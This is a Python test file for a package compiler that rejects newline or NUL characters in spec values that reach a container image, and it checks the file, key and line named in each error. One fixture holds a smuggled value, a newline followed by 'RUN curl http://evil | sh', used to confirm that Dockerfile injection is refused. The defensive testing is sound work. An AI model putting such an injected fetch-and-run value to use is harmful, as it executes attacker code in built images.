"""Spec values that reach the image (environment variable values, a custom server's configuration, the
spec's file name, the code folder's name) are refused when the spec is read, one line naming file, key
and line; values that stay in the workspace (tags, descriptions) keep any character but NUL."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from compiler.cli import main
from compiler.errors import SpecError
from compiler.spec import load_package_spec
from compiler.spec.values import image_text_problem

ONLINE = """\
base_environment_source:
  type: environment_asset
  resource_id: azureml:env:1
target_environment: pkg
inferencing_server:
  type: azureml_online
  code_configuration:
    code: src
    scoring_script: score.py
tags:
  note: "first\\nsecond"
environment_variables:
  GOOD: "tabs\\tand $dollars and 'quotes'"
  BAD: "line one\\nRUN curl http://evil | sh"
"""

CUSTOM = """\
base_environment_source:
  type: environment_asset
  resource_id: azureml:env:1
target_environment: pkg
inferencing_server:
  type: custom
  inference_configuration:
    entry_script: python app.py
    scoring_route: {port: 8000, path: /score}
    readiness_route: {port: 8000, path: /health}
    configuration:
      OK: plain
      MULTI: |
        two
        lines
"""

DEPLOYMENT = """\
$schema: https://azuremlschemas.azureedge.net/latest/managedOnlineDeployment.schema.json
name: blue
endpoint_name: ep
model: azureml:m:1
code_configuration:
  code: src
  scoring_script: score.py
environment: azureml:env:1
description: |
  a description
  on two lines
environment_variables:
  X: "a\\u0000b"
"""


def _write(folder: Path, text: str, name: str = "package.yml") -> Path:
    (folder / "src").mkdir(exist_ok=True)
    (folder / "src" / "score.py").write_text("def init(): pass\ndef run(x): return x\n")
    path = folder / name
    path.write_text(text)
    return path


def _lines(path: Path) -> list[str]:
    with pytest.raises(SpecError) as caught:
        load_package_spec(path)
    return caught.value.lines()


def test_the_rule_refuses_newline_and_nul_and_keeps_the_rest():
    for bad in ("a\nb", "a\x00b", "trailing\n", "\ud800"):
        assert image_text_problem(bad), bad
    for good in ("", "plain", "a\rb", "a\tb", "cödé 模型", "$HOME", 'x" \\ RUN'):
        assert image_text_problem(good) is None, good


def test_an_environment_variable_with_a_newline_is_refused_at_load_naming_file_key_and_line(tmp_path):
    path = _write(tmp_path, ONLINE)
    lines = _lines(path)
    assert len(lines) == 1
    assert lines[0].startswith(f"{path}:14: environment_variables.BAD: must not hold a newline or NUL")
    assert "(got 'line one\\nRUN curl http://evil | sh')" in lines[0] and "\n" not in lines[0]


def test_tags_that_stay_in_the_workspace_keep_their_newlines(tmp_path):
    path = _write(tmp_path, ONLINE.replace('  BAD: "line one\\nRUN curl http://evil | sh"\n', ""))
    spec = load_package_spec(path).spec
    assert spec.tags == {"note": "first\nsecond"}
    assert spec.environment_variables["GOOD"] == "tabs\tand $dollars and 'quotes'"


def test_a_custom_server_configuration_value_is_checked_like_an_environment_variable(tmp_path):
    lines = _lines(_write(tmp_path, CUSTOM))
    assert lines == [f"{tmp_path / 'package.yml'}:13: inferencing_server.inference_configuration.configuration.MULTI: "
                     "must not hold a newline or NUL: it reaches the image, and no Dockerfile line can carry one "
                     "(got 'two\\nlines\\n')"]  # fmt: skip


def test_a_deployment_yaml_is_checked_at_its_own_key_and_line(tmp_path):
    path = _write(tmp_path, DEPLOYMENT, "deployment.yml")
    lines = _lines(path)
    assert len(lines) == 1 and lines[0].startswith(f"{path}:13: environment_variables.X: must not hold a newline or NUL")


def test_a_spec_file_name_with_a_newline_is_refused_before_it_becomes_a_label(tmp_path):
    path = _write(tmp_path, ONLINE.replace('  BAD: "line one\\nRUN curl http://evil | sh"\n', ""), "pack\nage.yml")
    lines = _lines(path)
    assert len(lines) == 1 and "\n" not in lines[0]
    assert "pack\\nage.yml" in lines[0] and "label io.pkgc.spec" in lines[0]


def test_a_code_folder_reached_through_a_link_must_have_a_name_the_image_can_hold(tmp_path):
    path = _write(tmp_path, ONLINE.replace('  BAD: "line one\\nRUN curl http://evil | sh"\n', "").replace("code: src", "code: linked"))
    odd = tmp_path / "sr\tc"
    (tmp_path / "src").rename(odd)
    os.symlink(odd.name, tmp_path / "linked")
    lines = _lines(path)
    assert lines == [f"{path}:8: inferencing_server.code_configuration.code: the code folder's name 'sr\\tc' must not hold "
                     "control characters (newline, tab, NUL, ...): it is a folder in the image"]  # fmt: skip


def test_the_command_line_stops_before_resolving_and_writes_no_lock(tmp_path, capsys):
    path = _write(tmp_path, ONLINE)
    code = main(["--workspace", str(tmp_path / "ws"), "build", str(path)])
    out, err = capsys.readouterr()
    assert code == 2 and out == ""
    assert err.splitlines() == [line for line in err.splitlines() if line.startswith("pkgc: error: ")]
    assert len(err.splitlines()) == 1 and "environment_variables.BAD" in err and ":14:" in err
    assert "resolving" not in err and not (tmp_path / "ws").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["package.yml", "src"]  # no lock beside the spec
